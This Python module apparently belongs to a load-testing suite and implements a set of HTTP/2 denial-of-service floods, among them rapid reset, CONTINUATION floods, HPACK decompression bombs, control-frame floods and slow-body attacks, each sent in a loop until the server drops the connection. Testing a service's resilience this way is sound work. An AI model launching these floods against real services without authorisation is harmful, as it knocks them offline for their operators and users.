"""Floods of HTTP/2: frames that cost a service more than they cost the attacker."""

import asyncio
import itertools
import json
from collections.abc import Callable, Iterable
from functools import partial

from loadtests.attack.attacker import Attack, Attacker
from loadtests.attack.target import Target
from loadtests.fuzz.frames import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    PREFACE,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    UNKNOWN,
    WINDOW_UPDATE,
    frame,
    hpack,
)

_BURST = 1000  # frames that are sent at once
_CANCEL = (8).to_bytes(4, "big")
_ONE = (1).to_bytes(4, "big")
_STREAMS = 100
_FRAME_BYTES = 1 << 14
# A name and a value that the table of HPACK keeps, and what then stands for both.
_KEPT = b"\x40\x01a\x7f\xa1\x1e" + b"v" * 4000
_AGAIN = b"\xbe"

Frames = Callable[[Target], Iterable[bytes]]


def _head(target: Target, method: bytes, path: str, flags: int, stream: int) -> bytes:
    fields = [
        (b":method", method),
        (b":scheme", b"https" if target.is_tls else b"http"),
        (b":path", path.encode()),
        (b":authority", b"a"),
    ]
    return frame(HEADERS, flags, stream, hpack(fields))


def _post(target: Target, stream: int) -> bytes:
    """Return a request whose body is to come."""
    return _head(target, b"POST", target.path(), END_HEADERS, stream)


def _same(part: bytes, target: Target) -> Iterable[bytes]:
    """Yield a frame without end, beside a request that waits for its body."""
    yield _post(target, 1)
    yield from itertools.repeat(part * (_BURST * 16 // max(len(part), 16)))


def _continuations(target: Target) -> Iterable[bytes]:
    yield frame(HEADERS, END_STREAM, 1, b"")
    yield from itertools.repeat(frame(CONTINUATION, 0, 1) * _BURST)


def _large_heads(target: Target) -> Iterable[bytes]:
    """Yield lists of headers that are just below what a frame may hold."""
    padding = hpack([(b"x%d" % n, b"v" * 1000) for n in range(14)])
    for stream in itertools.count(1, 2):
        start = hpack([(b":method", b"GET"), (b":path", b"/livez")])
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, start + padding)


def _bombs(target: Target) -> Iterable[bytes]:
    """Yield lists of headers that are a thousand times as large when unpacked."""
    for stream in itertools.count(1, 2):
        block = _KEPT + _AGAIN * (_FRAME_BYTES - len(_KEPT))
        yield frame(HEADERS, END_STREAM, stream, block) + frame(
            CONTINUATION, END_HEADERS, stream, _AGAIN * _FRAME_BYTES
        )


def _resets(target: Target) -> Iterable[bytes]:
    row = json.dumps(dict(target.row)).encode()
    for first in itertools.count(1, 2 * _STREAMS):
        yield b"".join(
            [
                _post(target, stream)
                + frame(DATA, END_STREAM, stream, row)
                + frame(RST_STREAM, 0, stream, _CANCEL)
                for stream in range(first, first + 2 * _STREAMS, 2)
            ]
        )


def _waiting(target: Target) -> Iterable[bytes]:
    """Yield as many requests as may be, and their bodies byte by byte."""
    streams = range(1, 2 * _STREAMS, 2)
    yield b"".join([_post(target, stream) for stream in streams])
    for stream in itertools.cycle(streams):
        yield frame(DATA, 0, stream, b" ")


def _large_answers(target: Target) -> Iterable[bytes]:
    """Yield requests for much, whose answers no window lets through."""
    yield frame(SETTINGS, 0, 0, b"\0\x04" + bytes(4))
    path = target.path("meta/dictionary")
    flags = END_HEADERS | END_STREAM
    yield b"".join(
        [_head(target, b"GET", path, flags, 2 * n + 1) for n in range(_STREAMS)]
    )
    yield from itertools.repeat(frame(PING, 0, 0, bytes(8)))


def _requests(path: str, target: Target) -> Iterable[bytes]:
    """Yield requests, many at once."""
    flags = END_HEADERS | END_STREAM
    for first in itertools.count(1, 2 * _STREAMS):
        streams = range(first, first + 2 * _STREAMS, 2)
        yield b"".join([_head(target, b"GET", path, flags, n) for n in streams])


async def _flood(
    frames: Frames, is_slow: bool, attacker: Attacker, number: int
) -> None:
    """Send frames until the peer ends the connection, and read what it sends."""
    async with attacker.connected("h2") as wire:
        reading = asyncio.create_task(wire.frames())
        try:
            await wire.send(PREFACE + frame(SETTINGS, 0, 0))
            await wire.send(frame(WINDOW_UPDATE, 0, 0, (1 << 30).to_bytes(4, "big")))
            for part in frames(attacker.target):
                await wire.send(part)
                await asyncio.sleep(0.05 if is_slow else 0)
                if reading.done():
                    raise EOFError
        finally:
            reading.cancel()


def _kinds() -> dict[str, Frames]:
    return {
        "PRIORITY": partial(_same, frame(PRIORITY, 0, 1, b"\0\0\0\0\x10")),
        "WINDOW_UPDATE": partial(_same, frame(WINDOW_UPDATE, 0, 1, _ONE)),
        "WINDOW_UPDATE of all": partial(_same, frame(WINDOW_UPDATE, 0, 0, _ONE)),
        "SETTINGS": partial(_same, frame(SETTINGS, 0, 0)),
        "PING": partial(_same, frame(PING, 0, 0, bytes(8))),
        "empty DATA": partial(_same, frame(DATA, 0, 1)),
        "DATA of a byte": partial(_same, frame(DATA, 0, 1, b" ")),
        "unknown frames": partial(_same, frame(UNKNOWN, 0, 0, b"a")),
        "large unknown frames": partial(_same, frame(UNKNOWN, 0, 0, bytes(16_000))),
        "CONTINUATION": _continuations,
        "rapid reset": _resets,
        "HPACK bombs": _bombs,
        "large heads": _large_heads,
        "requests for nothing": partial(_requests, "/nothing"),
        "requests for metrics": partial(_requests, "/metrics"),
    }


ATTACKS = [
    *(
        Attack(f"HTTP/2: {name}", partial(_flood, frames, False))
        for name, frames in _kinds().items()
    ),
    Attack("HTTP/2: slow bodies", partial(_flood, _waiting, True), many=True),
    Attack("HTTP/2: answers not read", partial(_flood, _large_answers, True)),
]
